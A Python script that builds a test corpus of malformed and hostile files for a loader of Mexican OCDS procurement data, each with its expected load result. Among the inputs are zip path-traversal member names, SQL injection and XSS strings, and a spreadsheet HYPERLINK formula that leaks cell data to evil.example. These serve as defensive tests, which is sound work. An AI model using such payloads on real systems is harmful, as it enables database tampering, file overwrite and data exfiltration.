"""Writes the bad-input corpus (tests/corpus/*) and its manifest (expected.json). Hand-made; nothing here
comes from /work/shared/data.

    python tests/corpus/build_corpus.py        # rewrites the files; same bytes every time

Each case declares, next to the bytes it writes, what loading it must give. The expectations were
written from the readers' documented rules (loaders/read/inputs.py), not from running the loader:

- read / loaded / rejected: items counted for the source (items_read = loaded + rejected); "loaded"
  may be replaced by "loaded_at_least" where the exact number depends on a compression library;
- reasons: substrings; every reject row's reason must contain one of them, and each must be used;
- locators: regular expressions; every reject row's locator must match one of them;
- rules: correction rules that must be recorded for the source; rules_absent: rules that must not;
- values: [table, key column, key, column, expected] looked up in the database after the load
  (datetimes as ISO strings, UTC, naive);
- processes / projects: rows in those tables for the case's ocids / project ids;
- known_bug: the value checks describe the intended behaviour, which the loader does not have yet
  (tests/test_corpus.py marks them xfail(strict=True) with this reason).

Cases generated at test time (too big, or dangerous to keep on disk: a zip bomb, a gzip bomb) are in
tests/test_corpus.py.
"""
from __future__ import annotations

import gzip
import io
import json
import zipfile
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
FIXED_ZIP_DATE = (2024, 1, 1, 0, 0, 0)
CASES: list[dict[str, Any]] = []


def case(name: str, data: bytes, what: str, **expected: Any) -> None:
    CASES.append({"file": name, "what": what, "data": data, **expected})


def rel(ocid: str, rid: str = "1", date: str = "2020-01-01T00:00:00Z", tag: str = "tender", **fields: Any) -> dict:
    return {"ocid": ocid, "id": rid, "date": date, "tag": [tag], **fields}


def package(*releases: dict, **meta: Any) -> dict:
    return {"uri": meta.pop("uri", "https://corpus.invalid/paquete.json"), "version": "1.1",
            "publishedDate": "2024-01-01T00:00:00Z", **meta, "releases": list(releases)}


def js(obj: Any, indent: bool = False) -> bytes:
    return json.dumps(obj, ensure_ascii=False, indent=1 if indent else None).encode("utf-8")


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, FIXED_ZIP_DATE), data)
    return buf.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def tender(title: str, start: Any = None, amount: Any = None, currency: str = "MXN") -> dict:
    t: dict[str, Any] = {"id": "t1", "title": title}
    if start is not None:
        t["tenderPeriod"] = {"startDate": start}
    if amount is not None:
        t["value"] = {"amount": amount, "currency": currency}
    return t


WHOLE = r"^byte \d+$"  # a reject for the whole input or the place it breaks
BYTE0 = r"^byte 0$"
DOC = r"^document$"
IN_PACKAGE = r"^/releases/\d+$"
ANY_DATE_RULE = ["date_format", "date_dmy", "date_dotnet", "date_invalid", "placeholder"]

# ---- not JSON at all ---------------------------------------------------------------------------------
case("01_empty.json", b"", "a 0-byte file", read=1, loaded=0, rejected=1, reasons=["empty file"], locators=[BYTE0])
case("02_whitespace.json", b"  \n\t\r\n   \n", "only whitespace", read=1, loaded=0, rejected=1,
     reasons=["only whitespace"], locators=[BYTE0])
case("03_not_json_text.json", "Hola: este archivo no es JSON, es una nota.\n".encode(), "plain text",
     read=1, loaded=0, rejected=1, reasons=["not JSON"], locators=[BYTE0])
case("04_html_502.json",
     b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n<body><h1>502 Bad Gateway</h1>"
     b"<hr><center>nginx</center></body></html>\n",
     "an HTML error page served as .json", read=1, loaded=0, rejected=1, reasons=["HTML page"], locators=[BYTE0])
case("05_html_login_bom.json",
     "\ufeff\n\n  <html lang=\"es\"><body><form action=\"/login\">Iniciar sesión</form></body></html>".encode(),
     "an HTML login page with a BOM and blank lines first", read=1, loaded=0, rejected=1,
     reasons=["HTML page"], locators=[BYTE0], rules=["bom_removed"])
case("06_xml_error.json", b'<?xml version="1.0"?><error><code>500</code><message>Internal</message></error>',
     "an XML error document", read=1, loaded=0, rejected=1, reasons=["XML"], locators=[BYTE0])
case("07_pdf.json", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n",
     "a PDF named .json", read=1, loaded=0, rejected=1, reasons=["PDF"], locators=[BYTE0])

# ---- JSON of the wrong shape ----------------------------------------------------------------------------
case("08_top_string.json", b'"releases"', "a JSON string", read=1, loaded=0, rejected=1,
     reasons=["is a string, expected an object or an array"], locators=[DOC])
case("09_top_number.json", b"42\n", "a JSON number", read=1, loaded=0, rejected=1,
     reasons=["is a number, expected an object or an array"], locators=[DOC])
case("10_top_null.json", b"null", "JSON null", read=1, loaded=0, rejected=1,
     reasons=["is a null, expected an object or an array"], locators=[DOC])
case("11_array_of_scalars.json",
     js([1, "texto", None, True, rel("ocds-c11-1", tender=tender("Bacheo"))]),
     "a top-level array of scalars and one release", read=5, loaded=1, rejected=4,
     reasons=["array element is a number", "array element is a string", "array element is a null",
              "array element is a boolean"], locators=[r"^/[0-3]$"], processes=1)
case("12_unknown_object.json", js({"foo": 1, "bar": [1, 2], "baz": {"x": None}}),
     "an object that is no package, release or project", read=1, loaded=0, rejected=1,
     reasons=["neither an OCDS release"], locators=[DOC])
case("13_publisher_message.json",
     js({"status": 404, "message": "No se ha encontrado información para el año solicitado"}),
     "a publisher's error message with HTTP 200", read=1, loaded=0, rejected=1,
     reasons=["publisher answered with a message"], locators=[DOC])
case("14_releases_not_array.json",
     js({"uri": "x", "releases": rel("ocds-c14-1", tender=tender("Puente"))}),
     "a package whose releases is an object, not an array", read=1, loaded=0, rejected=1,
     reasons=["neither an OCDS release"], locators=[DOC])

# ---- broken JSON -----------------------------------------------------------------------------------------
_three = js(package(*(rel(f"ocds-c15-{i}", tender=tender(f"Obra {i}", amount=1000 * i)) for i in (1, 2, 3))))
case("15_truncated_package.json", _three[: _three.index(b'"ocds-c15-3"') + 30],
     "a release package cut inside its third release", read=3, loaded=2, rejected=1,
     reasons=["truncated JSON"], locators=[WHOLE], processes=2)
_one = js(package(rel("ocds-c16-1", tender=tender("Construcción de la calle principal"))))
case("16_truncated_in_string.json", _one[: _one.index(b"Construcci") + 8],
     "a package cut inside a string of its only release", read=1, loaded=0, rejected=1,
     reasons=["truncated JSON"], locators=[WHOLE], processes=0)
_ok = [js(rel(f"ocds-c17-{i}", tender=tender(f"Obra {i}"))) for i in (1, 2, 3)]
case("17_syntax_error_middle.json",
     b'{"uri": "x", "releases": [' + _ok[0] + b", " + _ok[1] + b" " + _ok[2] + b"]}",
     "a missing comma before the third release", read=3, loaded=2, rejected=1,
     reasons=["invalid JSON"], locators=[WHOLE], processes=2)
case("18_trailing_garbage.json",
     js(package(rel("ocds-c18-1"), rel("ocds-c18-2")), indent=True) + b"\n<html><body>Error</body></html>\n",
     "a complete package followed by an HTML fragment", read=3, loaded=2, rejected=1,
     reasons=["document 2: invalid JSON"], locators=[WHOLE], processes=2)
case("19_concatenated.json",
     js(package(rel("ocds-c19-1"), rel("ocds-c19-2")), indent=True) + b"\n"
     + js(package(rel("ocds-c19-3"), rel("ocds-c19-4"), uri="https://corpus.invalid/2.json"), indent=True),
     "two pretty-printed packages one after the other", read=4, loaded=4, rejected=0, processes=4)


def _nested(levels: int) -> Any:
    value: Any = "fondo"
    for _ in range(levels):
        value = {"n": value}
    return value


case("20_deep_item.json", js(package(rel("ocds-c20-1"), rel("ocds-c20-2", tender={"id": "t", "x": _nested(100)}))),
     "one release nested 100 levels deep", read=2, loaded=1, rejected=1,
     reasons=["nested deeper than 64 levels"], locators=[r"^/releases/1$"], processes=1)
case("21_deep_document.json", b"[" * 3000 + b"]" * 3000, "arrays nested 3,000 levels deep",
     read=1, loaded=0, rejected=1, reasons=["nested deeper than 1024 levels"], locators=[WHOLE])

# ---- numbers -----------------------------------------------------------------------------------------------
case("22_huge_numbers.json",
     b'{"uri": "x", "releases": [{"ocid": "ocds-c22-1", "id": "1", "date": "2020-01-01T00:00:00Z", '
     b'"tag": ["award"], "tender": {"id": "t", "title": "Huge", "value": {"amount": '
     b'123456789012345678901234567890, "currency": "MXN"}}, "awards": [{"id": "a1", "status": "active", '
     b'"value": {"amount": 1e400, "currency": "MXN"}}]}]}',
     "an integer beyond 64 bits and a number beyond a double", read=1, loaded=1, rejected=0,
     rules=["nonfinite_to_null"], processes=1,
     values=[["processes", "ocid", "ocds-c22-1", "tender_value", 1.2345678901234568e29],
             ["processes", "ocid", "ocds-c22-1", "award_value", None]])
case("23_amounts_as_strings.json",
     js(package(rel("ocds-c23-1", tag="contract", tender=tender("Montos", amount="1,234.50"), awards=[
         {"id": "a1", "status": "active", "value": {"amount": "$1 234", "currency": "MXN"}},
         {"id": "a2", "status": "active", "value": {"amount": "N/A", "currency": "MXN"}},
         {"id": "a3", "status": "active", "value": {"amount": "mil pesos", "currency": "MXN"}}],
         contracts=[{"id": "c1", "awardID": "a1", "value": {"amount": "1.234.567,89", "currency": "MXN"}}]))),
     "amounts written as text: 1,234.50, $1 234, 1.234.567,89, N/A, words", read=1, loaded=1, rejected=0,
     rules=["amount_format", "amount_invalid", "placeholder"], processes=1,
     values=[["processes", "ocid", "ocds-c23-1", "tender_value", 1234.5],
             ["processes", "ocid", "ocds-c23-1", "award_value", 1234.0],
             ["processes", "ocid", "ocds-c23-1", "contract_value", 1234567.89]])
case("24_nan_infinity.json",
     b'{"uri": "x", "releases": [{"ocid": "ocds-c24-1", "id": "1", "date": "2020-01-01T00:00:00Z", '
     b'"tag": ["contract"], "tender": {"id": "t", "title": "NaN", "value": {"amount": NaN, "currency": "MXN"}}, '
     b'"awards": [{"id": "a1", "value": {"amount": Infinity, "currency": "MXN"}}], '
     b'"contracts": [{"id": "c1", "value": {"amount": -Infinity, "currency": "MXN"}}]}]}',
     "NaN, Infinity and -Infinity as amounts", read=1, loaded=1, rejected=0, rules=["nonfinite_to_null"],
     processes=1, values=[["processes", "ocid", "ocds-c24-1", "tender_value", None]])
case("25_nan_lines.jsonl",
     js(rel("ocds-c25-1")) + b"\n"
     + b'{"ocid": "ocds-c25-2", "id": "1", "date": "2020-01-01T00:00:00Z", "tag": ["tender"], '
       b'"tender": {"id": "t", "value": {"amount": NaN, "currency": "MXN"}}}\n'
     + js(rel("ocds-c25-3")) + b"\n",
     "JSON Lines with NaN on one line", read=3, loaded=3, rejected=0, rules=["nonfinite_to_null"], processes=3)

# ---- dates as Mexican publishers write them ------------------------------------------------------------


def date_case(n: int, name: str, published: Any, expected: str | None, what: str, rules: list[str]) -> None:
    ocid = f"ocds-c{n}-1"
    absent = [r for r in ANY_DATE_RULE if r not in rules]
    case(f"{n}_dates_{name}.json", js(package(rel(ocid, tender=tender("Fechas", start=published)))), what,
         read=1, loaded=1, rejected=0, rules=rules, rules_absent=absent, processes=1,
         values=[["processes", "ocid", ocid, "tender_start", expected]])


date_case(26, "iso_offset", "2020-03-01T10:00:00-06:00", "2020-03-01T16:00:00", "ISO 8601 with a -06:00 offset", [])
date_case(27, "iso_no_offset", "2020-03-01T10:00:00", "2020-03-01T10:00:00", "ISO 8601 without an offset", [])
date_case(28, "date_only", "2020-03-01", "2020-03-01T00:00:00", "a date without a time", [])
date_case(29, "dotnet", "/Date(1583056800000)/", "2020-03-01T10:00:00", ".NET JSON date", ["date_dotnet"])
date_case(30, "dmy", "30/05/2017", "2017-05-30T00:00:00", "dd/mm/yyyy", ["date_dmy"])
date_case(31, "excel", 42908, "2017-06-22T00:00:00", "a spreadsheet day number", ["date_format"])
date_case(32, "default", "0001-01-01T00:00:00", None, ".NET's default date 0001-01-01", ["placeholder"])
date_case(33, "space_separated", "2019-01-02 10:11:12", "2019-01-02T10:11:12", "yyyy-mm-dd hh:mm:ss",
          ["date_format"])

# ---- identifiers -------------------------------------------------------------------------------------------
case("34_ocid_missing.json", js(package(
    {"id": "1", "date": "2020-01-01T00:00:00Z", "tag": ["tender"], "tender": {"id": "t"}},
    rel(None, rid="2"), rel(123, rid="3"), rel("", rid="4"), rel("   ", rid="5"), rel("ocds-c34-1", rid="6"))),
    "releases without an ocid, with null, a number, empty and blank ocids", read=6, loaded=1, rejected=5,
    reasons=["release without an ocid", "release ocid is a number", "release with an empty ocid"],
    locators=[IN_PACKAGE], processes=1)
case("35_ocid_duplicated.json", js(package(
    rel("ocds-c35-1", rid="p", date="2020-01-01T00:00:00Z", tag="planning"),
    rel("ocds-c35-1", rid="t", date="2020-02-01T00:00:00Z", tender=tender("Tres entregas", amount=100)),
    rel("ocds-c35-1", rid="a", date="2020-03-01T00:00:00Z", tag="award",
        awards=[{"id": "a1", "status": "active", "value": {"amount": 90, "currency": "MXN"}}]))),
    "one process in three releases", read=3, loaded=3, rejected=0, processes=1,
    values=[["processes", "ocid", "ocds-c35-1", "release_count", 3],
            ["processes", "ocid", "ocds-c35-1", "tender_value", 100.0],
            ["processes", "ocid", "ocds-c35-1", "award_value", 90.0]])
# The rule for a release id published twice with different content: both are kept in `releases`, the
# compiled release merges them in date order (the later one wins), and the duplicate is recorded
# (tests/test_corpus.py::test_a_release_id_published_twice_with_different_content_is_recorded).
case("36_release_id_duplicated.json", js(package(
    rel("ocds-c36-1", rid="ocds-c36-1-r1", date="2020-02-01T00:00:00Z", tender=tender("Versión nueva", amount=200)),
    rel("ocds-c36-1", rid="ocds-c36-1-r1", date="2020-01-01T00:00:00Z", tender=tender("Versión vieja", amount=100)))),
    "the same release id twice with different content, the newer first", read=2, loaded=2, rejected=0,
    processes=1, values=[["processes", "ocid", "ocds-c36-1", "tender_value", 200.0],
                         ["processes", "ocid", "ocds-c36-1", "title", "Versión nueva"]])
case("37_mixed_currencies.json", js(package(rel(
    "ocds-c37-1", tag="contract", tender=tender("Monedas", amount=1000),
    awards=[{"id": "a1", "status": "active", "value": {"amount": 500, "currency": "MXN"}},
            {"id": "a2", "status": "active", "value": {"amount": 100, "currency": "USD"}}],
    contracts=[{"id": "c1", "awardID": "a1", "value": {"amount": 500, "currency": "M.N."}}]))),
    "awards in pesos and dollars, a contract in 'M.N.'", read=1, loaded=1, rejected=0,
    rules=["currency_typo"], processes=1,
    values=[["contracts", "ocid", "ocds-c37-1", "currency", "MXN"],
            ["processes", "ocid", "ocds-c37-1", "award_value", 500.0]])  # only amounts in the process currency

# ---- encodings ---------------------------------------------------------------------------------------------
case("38_bom.json", b"\xef\xbb\xbf" + js(package(rel("ocds-c38-1", tender=tender("Con BOM")))),
     "UTF-8 with a byte order mark", read=1, loaded=1, rejected=0, rules=["bom_removed"], processes=1,
     values=[["processes", "ocid", "ocds-c38-1", "title", "Con BOM"]])
case("39_bom_lines.jsonl", b"\xef\xbb\xbf" + js(rel("ocds-c39-1")) + b"\n" + js(rel("ocds-c39-2")) + b"\n",
     "JSON Lines with a BOM", read=2, loaded=2, rejected=0, rules=["bom_removed"], processes=2)
case("40_latin1.json",
     json.dumps(package(rel("ocds-c40-1", tender=tender("Construcción de puente peatonal en Tláhuac"))),
                ensure_ascii=False).encode("latin-1"),
     "ISO-8859-1 text", read=1, loaded=1, rejected=0, rules=["encoding_latin1"], processes=1,
     values=[["processes", "ocid", "ocds-c40-1", "title", "Construcción de puente peatonal en Tláhuac"]])
case("41_cp1252.json",
     json.dumps(package(rel("ocds-c41-1", tender=tender("Obra “Señor de la Misericordia” – 2a etapa"))),
                ensure_ascii=False).encode("cp1252"),
     "Windows-1252 text with curly quotes and a dash", read=1, loaded=1, rejected=0, rules=["encoding_latin1"],
     processes=1, values=[["processes", "ocid", "ocds-c41-1", "title", "Obra “Señor de la Misericordia” – 2a etapa"]])
case("42_double_utf8.json",
     js(package(rel("ocds-c42-1", tender=tender("Licitación pública para pavimentación".encode().decode("latin-1"))))),
     "double-encoded UTF-8 (LicitaciÃ³n)", read=1, loaded=1, rejected=0, rules=["encoding_double_utf8"],
     processes=1, values=[["processes", "ocid", "ocds-c42-1", "title", "Licitación pública para pavimentación"]])
case("43_utf16.json", js(package(rel("ocds-c43-1"))).decode().encode("utf-16"),
     "UTF-16 with a BOM (PowerShell's default)", read=1, loaded=0, rejected=1, reasons=["UTF-16"], locators=[BYTE0])
case("44_nul_bytes.json", b'{"uri": "x\x00\x00\x01\x02", "releases": []}', "NUL bytes (binary data)",
     read=1, loaded=0, rejected=1, reasons=["binary data"], locators=[BYTE0])
case("45_lone_surrogate.json",
     b'{"uri": "x", "releases": [{"ocid": "ocds-c45-1", "id": "1", "date": "2020-01-01T00:00:00Z", '
     b'"tag": ["tender"], "tender": {"id": "t", "title": "Roto \\ud800 aqu\\u00ed"}}]}',
     "a lone surrogate escape in a title", read=1, loaded=1, rejected=0, rules=["lone_surrogate_replaced"],
     processes=1, values=[["processes", "ocid", "ocds-c45-1", "title", "Roto \ufffd aquí"]])

# ---- archives ----------------------------------------------------------------------------------------------
case("46_zip_traversal.zip", zip_bytes([
    ("../../etc/cron.d/evil.json", js(package(rel("ocds-c46-9")))),
    ("/tmp/absoluto.json", js(package(rel("ocds-c46-8")))),
    ("datos/bueno.json", js(package(rel("ocds-c46-1"))))]),
    "a zip with path-traversal and absolute member names", read=3, loaded=1, rejected=2,
    reasons=["unsafe member path"], locators=[r"^member \.\./\.\./etc/cron\.d/evil\.json$", r"^member /tmp/absoluto\.json$"],
    processes=1)
case("47_not_gzip.json.gz", js(package(rel("ocds-c47-1"))), "plain JSON named .json.gz",
     read=1, loaded=1, rejected=0, processes=1)
case("48_broken_gzip.json.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"esto no es deflate" * 8,
     "gzip magic followed by junk", read=1, loaded=0, rejected=1, reasons=["compressed"],
     locators=[WHOLE])
_lines = b"".join(js(rel(f"ocds-c49-{i:02d}", tender=tender(f"Obra número {i} " * 20))) + b"\n" for i in range(40))
_gz = gz(_lines)
case("49_truncated_gzip.jsonl.gz", _gz[: len(_gz) // 2], "gzipped JSON Lines cut in half",
     loaded_at_least=1, rejected=2, reasons=["compressed stream broke", "truncated JSON"],
     locators=[r"^line \d+$"])
case("50_jsonl_mixed.jsonl",
     js(rel("ocds-c50-1")) + b"\n"
     + b'{"ocid": roto}\n'
     + b"\n"
     + b"<html><body>Servicio no disponible</body></html>\n"
     + js(rel("ocds-c50-2")) + b"\n"
     + b"[1, 2]\n"
     + b'{"ocid": "ocds-c50-3", "id": "1"',
     "JSON Lines: a good line, bad JSON, a blank line, HTML, an array of numbers, a cut last line",
     read=7, loaded=2, rejected=5,
     reasons=["invalid JSON", "HTML page", "array element is a number", "truncated JSON"],
     locators=[r"^line [2467]$", r"^line 6 /[01]$"], processes=2)



def _gzip_cut_after(first: bytes, rest: bytes) -> bytes:
    """gzip of first + rest, cut right after `first` (a full flush there), as a broken download might be."""
    import zlib

    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = c.compress(first) + c.flush(zlib.Z_FULL_FLUSH)
    return head  # rest is never written: the stream ends exactly after the first document


case("59_gzip_cut_between_documents.json.gz",
     _gzip_cut_after(js(package(rel("ocds-c59-1"), rel("ocds-c59-2")), indent=True) + b"\n",
                     js(package(rel("ocds-c59-3")), indent=True)),
     "gzipped concatenated packages whose stream ends right after the first one", read=3, loaded=2, rejected=1,
     reasons=["compressed stream broke"], locators=[r"^near byte \d+$"], processes=2)
case("60_gzip_without_trailer.json.gz", gz(js(package(rel("ocds-c60-1"))))[:-6],
     "a gzip whose last bytes (CRC and size) are missing", read=2, loaded=1, rejected=1,
     reasons=["compressed stream broke"], locators=[r"^near byte \d+$"], processes=1)

# ---- records, projects, versioned releases ---------------------------------------------------------------
case("51_records.json", js({"uri": "x", "version": "1.1", "records": [
    {"ocid": "ocds-c51-1", "compiledRelease": rel("ocds-c51-1", tag="compiled", tender=tender("Compilado"))},
    {"compiledRelease": rel("ocds-c51-2", tag="compiled")},
    {"ocid": "ocds-c51-3", "releases": [{"url": "https://corpus.invalid/r.json#1", "date": "2020-01-01T00:00:00Z",
                                         "tag": ["tender"]}]},
    {"releases": [rel(None, rid="x")]},
    {"ocid": "ocds-c51-5", "releases": [rel("ocds-c51-5", rid="1"), rel("ocds-c51-5", rid="2",
                                                                         date="2020-05-01T00:00:00Z")]},
]}), "records: compiled only, ocid only in compiledRelease, linked releases only, no ocid, full releases",
    read=5, loaded=3, rejected=2, reasons=["nothing to load", "record without an ocid"],
    locators=[r"^/records/[23]$"], processes=3)
case("52_projects.json", js({"uri": "x", "version": "0.9", "projects": [
    {"id": "oc4ids-c52-1", "title": "Puente", "status": "implementation"},
    {"title": "Sin id", "budget": {"amount": {"amount": 10, "currency": "MXN"}}},
    {"id": True, "title": "Id booleano"},
    {"id": "", "title": "Id vacío"},
    "no soy un proyecto",
    {"id": 7, "title": "Id numérico"},
]}), "a project package with projects without id, boolean, empty and numeric ids, and a string",
    read=6, loaded=2, rejected=4,
    reasons=["project without an id", "project id is a boolean", "project with an empty id", "project is a string"],
    locators=[r"^/projects/[1-4]$"], projects=2)
case("53_versioned_release.json", js({"ocid": "ocds-c53-1", "tender": {"title": [
    {"releaseID": "r1", "releaseDate": "2020-01-01T00:00:00Z", "releaseTag": ["tender"], "value": "Título"}]}}),
    "a versioned release on its own", read=1, loaded=0, rejected=1, reasons=["versioned release"], locators=[DOC])
case("54_wrong_field_types.json", js(package(
    rel("ocds-c54-1", tender="una cadena", awards={"id": "a1"}, parties="nadie"),
    rel("ocds-c54-2", awards=["x", 1, None], buyer=["a"], planning=[1]),
    rel("ocds-c54-3", tender={"value": [1, 2], "items": "x", "tenderers": "y", "numberOfTenderers": "tres"}),
    rel("ocds-c54-4", contracts=[{"id": {"a": 1}, "value": "x", "period": "y", "implementation": "z"}]),
    rel("ocds-c54-5", contracts=[{"id": "c1", "implementation": {"transactions": "x", "milestones": [1, "a"]},
                                  "amendments": "x"}], bids={"details": "x"}),
    rel("ocds-c54-6", tender=True, awards=True, contracts=False, parties=True, buyer=True, date=12345, tag=5),
    rel("ocds-c54-7", awards=[{"id": 1, "suppliers": [{"id": 2, "name": 3}]}],
        parties=[{"id": 5, "roles": "buyer", "name": ["x"]}]),
)), "fields of the wrong JSON type everywhere in seven releases", read=7, loaded=7, rejected=0, processes=7)

HOSTILE = ["'; DROP TABLE processes; --", "<script>alert(1)</script>", "<img src=x onerror=alert(2)>",
           "[x](javascript:alert(3))", "Robert'); DELETE FROM releases WHERE ('1'='1", "{{7*7}} ${7*7} %s %n"]
case("55_hostile_text.json", js(package(*(
    rel(f"ocds-c55-{i}", tender=tender(text), buyer={"id": f"b{i}", "name": text},
        parties=[{"id": f"b{i}", "name": text, "roles": ["buyer"]}]) for i, text in enumerate(HOSTILE)))),
    "SQL and script payloads in titles and names", read=len(HOSTILE), loaded=len(HOSTILE), rejected=0,
    processes=len(HOSTILE),
    values=[["processes", "ocid", f"ocds-c55-{i}", "title", text] for i, text in enumerate(HOSTILE)])
case("56_zip_mixed.zip", zip_bytes([
    ("a/bueno.json", js(package(rel("ocds-c56-1"), rel("ocds-c56-2")))),
    ("b/error.json", b"<html><body>403 Forbidden</body></html>"),
    ("c/lineas.jsonl", js(rel("ocds-c56-3")) + b"\n" + js(rel("ocds-c56-4")) + b"\n"),
    ("leeme.txt", "Léame: datos de prueba".encode()),
    ("__MACOSX/a/._bueno.json", b"\x00\x05\x16\x07"),
    ("interno.zip", zip_bytes([("x.json", js(package(rel("ocds-c56-9"))))])),
]), "a zip with a good package, an HTML member, JSON Lines, a text file, macOS junk and a zip inside",
    read=6, loaded=4, rejected=2, reasons=["HTML page", "zip inside a zip"],
    locators=[r"^member b/error\.json byte 0$", r"^member interno\.zip$"], processes=4)

# ---- compile order with dates as published ------------------------------------------------------------
case("57_release_dates_dmy_order.json", js(package(
    rel("ocds-c57-1", rid="r2", date="01/02/2020", tender=tender("Título del 1 de febrero")),
    rel("ocds-c57-1", rid="r1", date="02/01/2020", tag="planning", tender=tender("Título del 2 de enero")))),
    "two releases dated dd/mm/yyyy (2 Jan and 1 Feb): string order is not date order",
    read=2, loaded=2, rejected=0, processes=1,
    values=[["processes", "ocid", "ocds-c57-1", "title", "Título del 1 de febrero"],
            ["processes", "ocid", "ocds-c57-1", "last_release_date", "2020-02-01T00:00:00"]])
case("58_release_dates_offset_order.json", js(package(
    rel("ocds-c58-1", rid="r2", date="2020-02-01T00:00:00-06:00", tender=tender("A las 06:00 UTC")),
    rel("ocds-c58-1", rid="r1", date="2020-02-01T05:00:00Z", tag="planning", tender=tender("A las 05:00 UTC")))),
    "two releases the same day, one with a -06:00 offset: string order is not time order",
    read=2, loaded=2, rejected=0, processes=1,
    values=[["processes", "ocid", "ocds-c58-1", "title", "A las 06:00 UTC"],
            ["processes", "ocid", "ocds-c58-1", "last_release_date", "2020-02-01T06:00:00"]])

# ---- hardening: markdown links, HTML links and spreadsheet formulas in stored text ----------------------
MD_LINK = "X [MDLINK](https://evil.example/c) ![i](http://127.0.0.1:8799/c.png)"
HTML_LINK = '<a href="https://evil.example">clic</a>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def _award(supplier: dict, amount: float) -> dict:
    return {"id": "a1", "status": "active", "date": "2020-02-01T00:00:00Z", "suppliers": [supplier],
            "value": {"amount": amount, "currency": "MXN"}}


_SUPPLIER61 = {"id": "MX-RFC-EVI010101AB1", "name": "Proveedor Uno"}
case("61_hostile_links_formulas.json", js(package(
    rel("ocds-c61-1", tender=tender(FORMULA, amount=100.0, currency=MD_LINK),
        buyer={"id": "b61-1", "name": HTML_LINK},
        parties=[{"id": "b61-1", "name": HTML_LINK, "roles": ["buyer"]}, {**_SUPPLIER61, "roles": ["supplier"]}],
        awards=[_award(_SUPPLIER61, 100.0)]),
    rel("ocds-c61-2", tender=tender("+SUM(1,2)", amount=50.0),
        buyer={"id": "b61-2", "name": f"{HTML_LINK} dos"},
        parties=[{"id": "b61-2", "name": f"{HTML_LINK} dos", "roles": ["buyer"]},
                 {**_SUPPLIER61, "roles": ["supplier"]}],
        awards=[_award(_SUPPLIER61, 50.0)]),
    rel('ocds-c61-<a href="https://evil.example">3</a>',
        tender={"id": "t3", "title": "Obra", "tenderPeriod": {"startDate": "2020-01-01T00:00:00Z",
                                                               "endDate": "2020-02-01T00:00:00Z"}}),
)), "a markdown link and a tracker image as a currency, HTML links as buyer names, spreadsheet formulas as "
    "titles: stored verbatim, shown and exported as text (tests/test_hardening.py)",
    read=3, loaded=3, rejected=0, processes=3,
    values=[["processes", "ocid", "ocds-c61-1", "title", FORMULA],
            ["processes", "ocid", "ocds-c61-1", "buyer_name", HTML_LINK]])


def main() -> None:
    for old in HERE.iterdir():
        if old.is_file() and old.name[:2].isdigit():
            old.unlink()
    manifest = []
    for c in CASES:
        (HERE / c["file"]).write_bytes(c["data"])
        manifest.append({k: v for k, v in c.items() if k != "data"})
    (HERE / "expected.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    print(f"wrote {len(CASES)} files and expected.json to {HERE}")


if __name__ == "__main__":
    main()
